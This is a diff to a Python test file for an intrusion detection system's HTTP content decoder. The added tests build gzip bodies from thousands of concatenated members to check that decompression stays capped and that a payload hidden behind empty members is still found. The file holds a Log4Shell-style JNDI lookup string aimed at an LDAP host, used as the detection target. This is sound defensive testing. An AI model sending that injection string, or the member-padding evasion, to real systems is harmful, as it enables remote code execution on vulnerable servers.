@@ -3,9 +3,14 @@
 from __future__ import annotations
 
 import gzip
+import struct
+import zlib
 
 import pytest
 
+from ids.counters import Counters
+from ids.protocols.http.content import FREE_MEMBERS, decode_content
+from ids.protocols.http.settings import HttpSettings
 from tests.protocols.wire import Wire, request
 
 LOOKUP = b"${jndi:ldap://192.0.2.66/a}"
@@ -45,3 +50,28 @@ def test_a_coded_body_of_a_request_is_read_decoded_first() -> None:
     coded = gzip.compress(JSON)
     (found,) = sent(with_length(coded, b"Content-Encoding: gzip")).seen[:1]
     assert found.instances("http.request_body") == (JSON, coded)
+
+
+# Codings that cost more than they weigh.
+
+
+def member(content: bytes) -> bytes:
+    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + machine.compress(content) + machine.flush() + struct.pack("<II", 0, 0)
+
+
+def test_members_within_a_coding_cost_no_more_than_was_sent() -> None:
+    counters = Counters()
+    many = member(b"a") * 4000
+    body = gzip.compress(gzip.compress(many))
+    (found,) = decode_content(body, b"gzip, gzip, gzip", 100 << 10, HttpSettings(), counters)
+    allowed = FREE_MEMBERS + len(body) // 18
+    assert found.startswith(b"a" * (allowed - 2) + b"\x1f\x8b"), "what is left is there as it was"
+    assert counters["http.gzip_too_many_members"] == 1
+
+
+def test_members_that_were_sent_are_all_read() -> None:
+    counters = Counters()
+    body = member(b"") * 4000 + member(LOOKUP)
+    assert decode_content(body, b"gzip", 100 << 10, HttpSettings(), counters) == (LOOKUP,)
+    assert not counters["http.gzip_too_many_members"]
